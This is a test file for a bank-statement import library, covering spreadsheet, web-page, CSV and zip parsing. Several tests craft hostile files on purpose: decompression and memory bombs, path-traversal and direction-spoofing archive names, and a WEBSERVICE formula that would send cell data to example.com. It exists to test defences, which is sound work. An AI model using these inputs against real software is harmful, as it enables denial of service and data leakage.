import { CFB, utils, write } from '@e965/xlsx'
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { expect, test } from 'vitest'
import { readSheet as read, survey } from '../../../../../tests/support/bank-files/read-sheet.ts'
import { FileRefused } from '../../file-refused.ts'
import { tablesOf, unpackedFile } from '../unpacked-file.ts'

const TABLE = [
  ['Konto', 'DE89370400440532013000'],
  [],
  ['Buchungstag', 'Verwendungszweck', 'Betrag', 'Saldo'],
  [new Date(Date.UTC(2026, 2, 2)), 'Miete', -1200.1, 800],
  [new Date(Date.UTC(2026, 2, 3)), 'Zinsen', 0.3, 800.3],
]
const EXPECTED = [
  ['2026-03-02', 'Miete', 120_010, 'EXPENSE'],
  ['2026-03-03', 'Zinsen', 30, 'INCOME'],
]

function workbook(type: 'xlsx' | 'biff8' | 'ods' | 'xlsb'): Blob {
  const book = utils.book_new()
  utils.book_append_sheet(book, utils.aoa_to_sheet([['Help']]), 'About')
  utils.book_append_sheet(book, utils.aoa_to_sheet(TABLE, { UTC: true }), 'Umsätze')
  return new Blob([new Uint8Array(write(book, { type: 'array', bookType: type }) as ArrayBuffer)])
}

test.each(['xlsx', 'biff8', 'ods', 'xlsb'] as const)(
  'a workbook as %s is read by its largest sheet',
  async (type) => {
    expect(await read(workbook(type))).toEqual({ rows: EXPECTED, errors: [], questions: [] })
  },
)

function rowOfPage(row: readonly string[]): string {
  return `<tr>${row.map((cell) => `<td>${cell}</td>`).join('')}</tr>`
}

test('a web page or a text that is named .xls is read by what it is', async () => {
  const page = `<html><head><meta charset="utf-8"></head><body><table>${[
    ['Datum', 'Text', 'Betrag', 'Saldo'],
    ['02.03.2026', 'Miete', '-1.200,10', '800,00'],
    ['03.03.2026', 'Zinsen', '0,30', '800,30'],
  ]
    .map(rowOfPage)
    .join('')}</table></body></html>`
  expect((await read(new File([page], 'umsatz.xls'))).rows).toEqual(EXPECTED)
  const text = 'Datum\tText\tBetrag\n02.03.2026\tMiete\t-1.200,10\n13.03.2026\tZinsen\t0,30\n'
  expect((await read(new File([text], 'umsatz.xls'))).rows).toHaveLength(2)
})

const HEADER = ['Date', 'Description', 'Amount']
const DAYS = ['2026-03-02', '2026-03-03', '2026-03-04']
const rowsOf = (words: string) => DAYS.map((day, index) => [day, `${words} ${index}`, -10 - index])

function sheets(tables: Record<string, unknown[][]>, hidden: readonly string[] = []): Blob {
  const book = utils.book_new()
  for (const [name, table] of Object.entries(tables))
    utils.book_append_sheet(book, utils.aoa_to_sheet(table), name)
  book.Workbook = { Sheets: book.SheetNames.map((name) => ({ Hidden: hidden.includes(name) ? 1 : 0 })) }
  return new Blob([new Uint8Array(write(book, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer)])
}

const descriptions = async (file: Blob) => (await read(file)).rows.map(([, description]) => description)

test('of several sheets the one with transactions is read, however long the others are', async () => {
  const categories = Array.from({ length: 50 }, (_, index) => [`Category ${index}`, index])
  const summary = [
    ['Period', '2026-03-02', 'Opening', 100],
    ['Closed', '2026-03-31', 'Closing', 67],
  ]
  const file = sheets({ Summary: summary, Categories: categories, Movements: [HEADER, ...rowsOf('Coffee')] })
  expect(await descriptions(file)).toEqual(['Coffee 0', 'Coffee 1', 'Coffee 2'])
})

test('a sheet that nobody sees is not read', async () => {
  const file = sheets(
    { Old: [HEADER, ...rowsOf('Old'), ...rowsOf('Older')], Now: [HEADER, ...rowsOf('New')] },
    ['Old'],
  )
  expect(await descriptions(file)).toEqual(['New 0', 'New 1', 'New 2'])
})

test('sheets of one header that are named by month are read as one table', async () => {
  const file = sheets({
    'Mar 2026': [['My Bank'], HEADER, ...rowsOf('One')],
    'Apr 2026': [['My Bank'], HEADER, ...rowsOf('Two')],
  })
  expect(await descriptions(file)).toEqual(['One 0', 'One 1', 'One 2', 'Two 0', 'Two 1', 'Two 2'])
})

test.each([
  ['Checking', 'Savings'],
  ['Checking 2026', 'Savings 2026'],
  ['1', '2'],
])('sheets %s and %s may be different accounts: each is a statement of its own', async (one, two) => {
  const file = sheets({ [`${one} `]: [HEADER, ...rowsOf('One')], [`${two} `]: [HEADER, ...rowsOf('Two')] })
  const tables = await tablesOf(file)
  expect(tables.map(({ name }) => name)).toEqual([one, two])
  expect(await Promise.all(tables.map(({ content }) => descriptions(content)))).toEqual([
    ['One 0', 'One 1', 'One 2'],
    ['Two 0', 'Two 1', 'Two 2'],
  ])
  await expect(read(file)).rejects.toThrow(FileRefused)
})

test('a sheet of a single transaction under the same header is a statement too', async () => {
  const file = sheets({
    Checking: [HEADER, ...rowsOf('One')],
    Savings: [HEADER, ...rowsOf('Two').slice(0, 1)],
  })
  expect((await tablesOf(file)).map(({ name }) => name)).toEqual(['Checking', 'Savings'])
})

test('sheets of other headers are never one table', async () => {
  const file = sheets({ Mar: [HEADER, ...rowsOf('One')], Apr: [['Day', 'Text', 'Sum'], ...rowsOf('Two')] })
  expect((await tablesOf(file)).map(({ name }) => name)).toEqual(['Mar', 'Apr'])
})

test('a workbook with one table has that, and text has none', async () => {
  const tables = await tablesOf(workbook('xlsx'))
  expect(await Promise.all(tables.map(({ content }) => read(content)))).toEqual([
    await read(workbook('xlsx')),
  ])
  expect(await tablesOf(new Blob(['Date,Description,Amount']))).toEqual([])
})

test.each(['#,##0.00\\ "€"', '[$€-407] #,##0.00;[Red]-[$€-407] #,##0.00', '[$EUR] #,##0.00'])(
  'the currency that a sheet shows by the format %s is that of the rows',
  async (format) => {
    const table = utils.aoa_to_sheet([HEADER, ...rowsOf('Kaffee')])
    for (const row of [2, 3, 4]) table[`C${row}`].z = format
    const book = utils.book_new()
    utils.book_append_sheet(book, table, 'Umsätze')
    const file = new Blob([new Uint8Array(write(book, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer)])
    expect((await survey(file)).currency).toBe('EUR')
    expect((await read(file)).rows[0]).toEqual(['2026-03-02', 'Kaffee 0', 1_000, 'EXPENSE'])
  },
)

function zip(...names: string[]): Blob {
  const container: unknown = CFB.utils.cfb_new()
  const csv = 'Datum;Text;Betrag;Saldo\n02.03.2026;Miete;-1.200,10;800,00\n03.03.2026;Zinsen;0,30;800,30\n'
  for (const name of names) CFB.utils.cfb_add(container, name, new TextEncoder().encode(csv))
  return new Blob([new Uint8Array(CFB.write(container, { fileType: 'zip', type: 'array' }) as ArrayBuffer)])
}

test('the one statement in an archive is read, and several are read one by one', async () => {
  expect((await read(zip('umsatz.csv'))).rows).toEqual(EXPECTED)
  const tables = await tablesOf(zip('a.csv', 'deep/b.csv', 'notes.pdf'))
  expect(tables.map(({ name }) => name)).toEqual(['a.csv', 'b.csv'])
  expect((await read(tables[1]?.content ?? new Blob())).rows).toEqual(EXPECTED)
})

test('a damaged workbook is refused with what to do', async () => {
  const damaged = new Blob([new Uint8Array([0x50, 0x4b, 3, 4, 1, 2, 3])])
  await expect(survey(damaged)).rejects.toThrow(FileRefused)
})

/** A workbook of one sheet whose XML has been changed by hand. */
function tampered(change: (xml: string) => string, text = 'Rent'): Blob {
  const book = utils.book_new()
  utils.book_append_sheet(book, utils.aoa_to_sheet([HEADER, ...rowsOf(text)]), 'Sheet')
  const packed = write(book, { type: 'array', bookType: 'xlsx', bookSST: true }) as ArrayBuffer
  const files = unzipSync(new Uint8Array(packed))
  const path = 'xl/worksheets/sheet1.xml'
  files[path] = strToU8(change(strFromU8(files[path] ?? new Uint8Array())))
  return new Blob([zipSync(files)])
}

test('a sheet that says it goes on to the last cell there can be is read as far as it has any', async () => {
  const file = tampered((xml) => xml.replace(/<dimension[^>]*>/, '<dimension ref="A1:XFD1048576"/>'))
  expect(await descriptions(file)).toEqual(['Rent 0', 'Rent 1', 'Rent 2'])
})

/** An OpenDocument whose first row with anything in it begins otherwise. */
function repeating(row: string): Blob {
  const book = utils.book_new()
  utils.book_append_sheet(book, utils.aoa_to_sheet([HEADER, ...rowsOf('Rent')]), 'Sheet')
  const files = unzipSync(new Uint8Array(write(book, { type: 'array', bookType: 'ods' }) as ArrayBuffer))
  const xml = strFromU8(files['content.xml'] ?? new Uint8Array())
  files['content.xml'] = strToU8(xml.replace(/<table:table-row[^>]*>/, row))
  return new Blob([zipSync(files)])
}

const LAST_ROW = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
const SPREADSHEET = 'urn:schemas-microsoft-com:office:spreadsheet'

test.each([
  ['its last cell', tampered((xml) => xml.replace('</sheetData>', LAST_ROW))],
  [
    'a span over all there is',
    new Blob(['<table><tr><td colspan="1e8" rowspan="99999999">x</td></tr><tr><td>y</td></tr></table>']),
  ],
  [
    'a row beyond all rows',
    new Blob([
      `<?xml version="1.0"?><Workbook xmlns="${SPREADSHEET}" xmlns:ss="${SPREADSHEET}"><Worksheet ss:Name="S"><Table>
      <Row ss:Index="1000000000"><Cell ss:Index="1000000000"><Data ss:Type="String">x</Data></Cell></Row></Table></Worksheet></Workbook>`,
    ]),
  ],
  [
    'a text said again and again',
    // Its texts stand once in a list of their own; a cell names one by its place there.
    tampered((xml) => {
      const [long = ''] = /<row[^>]*>(?:(?!<row).)*<\/row><\/sheetData>/.exec(xml) ?? []
      const row = long.replace('</sheetData>', '').replaceAll(/ r="[^"]*"/g, '')
      return xml.replace('</sheetData>', `${row.repeat(2_200)}</sheetData>`)
    }, 'x'.repeat(31_000)),
  ],
  [
    'cells of an OpenDocument that are repeated',
    repeating('<table:table-row table:number-rows-repeated="1048576">'),
  ],
])('a small workbook that would fill the memory by %s is refused', async (_how, file) => {
  await expect(tablesOf(file)).rejects.toThrow('too large to open here')
})

test('a link of a whole sheet is passed, and a text that speaks of one stays', async () => {
  const link = '</sheetData><hyperlinks><hyperlink ref="A1:XFD1048576" location="A1"/></hyperlinks>'
  const text = 'see <hyperlink x'
  expect(await descriptions(tampered((xml) => xml.replace('</sheetData>', link), text))).toEqual(
    [0, 1, 2].map((index) => `${text} ${index}`),
  )
})

test('a link of a whole binary sheet is passed', async () => {
  const sheet = utils.aoa_to_sheet([HEADER, ...rowsOf('Rent')])
  const cell = sheet['A1'] as { l?: unknown }
  cell.l = { Target: 'https://example.com' }
  const book = utils.book_new()
  utils.book_append_sheet(book, sheet, 'Sheet')
  const files = unzipSync(new Uint8Array(write(book, { type: 'array', bookType: 'xlsb' }) as ArrayBuffer))
  const records = files['xl/worksheets/sheet1.bin'] ?? new Uint8Array()
  // Its number in two bytes and its length in one; then its first and last row and its first and last column.
  const link = records.findIndex((byte, at) => byte === 0xee && records[at + 1] === 0x03)
  const view = new DataView(records.buffer, records.byteOffset + link + 3)
  expect([0, 4, 8, 12].map((at) => view.getUint32(at, true))).toEqual([0, 0, 0, 0])
  view.setUint32(4, 1_048_575, true)
  view.setUint32(12, 16_383, true)
  expect(await descriptions(new Blob([zipSync(files)]))).toEqual(['Rent 0', 'Rent 1', 'Rent 2'])
})

/** A workbook from before 2007 with so many links, and tips beside them, of all cells that there could be. */
function oldWorkbookOfLinks(count: number): Blob {
  const sheet = utils.aoa_to_sheet([HEADER, ...rowsOf('Rent')])
  const cell = sheet['A1'] as { l?: unknown }
  cell.l = { Target: 'https://example.com', Tooltip: 'A tip' }
  const book = utils.book_new()
  utils.book_append_sheet(book, sheet, 'Sheet')
  const container = CFB.read(
    new Uint8Array(write(book, { type: 'array', bookType: 'biff8' }) as ArrayBuffer),
    {
      type: 'array',
    },
  )
  const file = container.FileIndex.find((each: { name: string }) => each.name === 'Workbook')
  if (!file) throw new Error('The workbook has no records')
  const records = Uint8Array.from(file.content as Uint8Array)
  const view = new DataView(records.buffer)
  const parts: Uint8Array[] = []
  let links = 0
  for (let at = 0; at + 4 <= records.length;) {
    const [id, length] = [view.getUint16(at, true), view.getUint16(at + 2, true)]
    // First and last row, first and last column; before them a tip has its number once more.
    const place = { 0x01b8: at + 4, 0x0800: at + 6 }[id]
    if (place !== undefined) {
      links += 1
      view.setUint16(place + 2, 65_535, true)
      view.setUint16(place + 6, 65_535, true)
    }
    const record = records.slice(at, at + 4 + length)
    for (let times = place === undefined ? 1 : count; times > 0; times -= 1) parts.push(record)
    at += 4 + length
  }
  expect(links).toBe(2)
  const content = Buffer.concat(parts)
  Object.assign(file, { content, size: content.length })
  return new Blob([Uint8Array.from(CFB.write(container, { type: 'array' }) as ArrayLike<number>)])
}

test('links of all cells of an old workbook cost nothing', { timeout: 20_000 }, async () => {
  expect(await descriptions(oldWorkbookOfLinks(200))).toEqual(['Rent 0', 'Rent 1', 'Rent 2'])
})

test('rows that an OpenDocument repeats are there as often', async () => {
  const file = repeating('<table:table-row table:number-rows-repeated="2">')
  expect(await descriptions(file)).toEqual(['Rent 0', 'Rent 1', 'Rent 2'])
})

const xmlCell = (text: string) => `<Cell><Data ss:Type="String">${text}</Data></Cell>`
const xmlRow = (...texts: string[]) => `<Row>${texts.map(xmlCell).join('')}</Row>`

test('looks of columns without end are passed', async () => {
  const file = new Blob([
    `<?xml version="1.0"?><Workbook xmlns="${SPREADSHEET}" xmlns:ss="${SPREADSHEET}"><Worksheet ss:Name="S"><Table><Column ss:Span="999999999"/>${xmlRow('Date', 'Text', 'Amount')}${xmlRow('2026-01-14', 'Rent', '-4.50')}</Table></Worksheet></Workbook>`,
  ])
  expect(await descriptions(file)).toEqual(['Rent'])
})

test('formulas are what they came to when the workbook was saved', async () => {
  const sheet = utils.aoa_to_sheet([HEADER, ...rowsOf('Rent')])
  Object.assign(sheet['B2'] as object, { f: 'WEBSERVICE("https://example.com/"&A1)', v: '=1+2' })
  const book = utils.book_new()
  utils.book_append_sheet(book, sheet, 'Sheet')
  const file = new Blob([new Uint8Array(write(book, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer)])
  expect(await descriptions(file)).toEqual(['=1+2', 'Rent 1', 'Rent 2'])
})

test('an archive that says it has more files than it has bytes is refused at once', async () => {
  const end = new DataView(new ArrayBuffer(102))
  for (const [at, value] of [
    [0, 0x0403_4b50],
    [4, 0x0606_4b50],
    [36, 0xffff_ffff],
    [52, 4],
    [60, 0x0706_4b50],
    [68, 4],
    [80, 0x0605_4b50],
    [88, 0xffff_ffff],
  ] as const)
    end.setUint32(at, value, true)
  await expect(tablesOf(new Blob([end]))).rejects.toThrow('too large to open here')
})

test('files of an archive are told by names of one line that are what they look like', async () => {
  const csv = strToU8('Date,Text,Amount\n2026-01-14,Rent,-4.50\n')
  const names = ['../../a.csv', 'x/b\n\u202evsc.csv', `${'long'.repeat(10_000)}.csv`]
  const file = new Blob([zipSync(Object.fromEntries(names.map((name) => [name, csv])))])
  expect((await tablesOf(file)).map(({ name }) => name)).toEqual(['a.csv', 'long'.repeat(50), 'b vsc.csv'])
})

/** An archive of one file, whose list of files is changed to say another size. */
function saying(size: number, content: Uint8Array): Blob {
  const bytes = zipSync({ 'statement.csv': content })
  const view = new DataView(bytes.buffer)
  const list = bytes.findLastIndex(
    (_, at) => at + 4 <= bytes.length && view.getUint32(at, true) === 0x02014b50,
  )
  view.setUint32(list + 24, size, true)
  return new Blob([bytes])
}

test('an archive that would come to more than the memory holds is refused before it is unpacked', async () => {
  const content = strToU8('Date,Amount')
  await expect(tablesOf(saying(0x7fff_ffff, content))).rejects.toThrow('too large to open here')
  const files = Object.fromEntries(Array.from({ length: 600 }, (_, index) => [`${index}.csv`, content]))
  await expect(tablesOf(new Blob([zipSync(files)]))).rejects.toThrow('more than 500 statements')
})

test('of a file in an archive no more is unpacked than its list says', async () => {
  const file = await unpackedFile(saying(10, new Uint8Array(5_000_000).fill(0x30)))
  expect(file.size).toBe(10)
})

test('named letters and signs of a web page are themselves', async () => {
  const page =
    '<table><tr><th>Fecha</th><th>Descripci&oacute;n</th><th>Importe</th></tr><tr><td>14/03/2025</td><td>Caf&eacute; &amp; pan</td><td>-45,60 &euro;</td></tr></table>'
  expect(await descriptions(new Blob([page]))).toEqual(['Café & pan'])
  expect((await survey(new Blob([page]))).currency).toBe('EUR')
})

test('two sheets of a transaction or two are two statements', async () => {
  const file = sheets({
    Giro: [HEADER, ['2026-03-02', 'Rent', -10], ['2026-03-03', 'Client', 20]],
    Savings: [HEADER, ['2026-03-02', 'Interest', 1]],
  })
  expect((await tablesOf(file)).map(({ name }) => name)).toEqual(['Giro', 'Savings'])
})
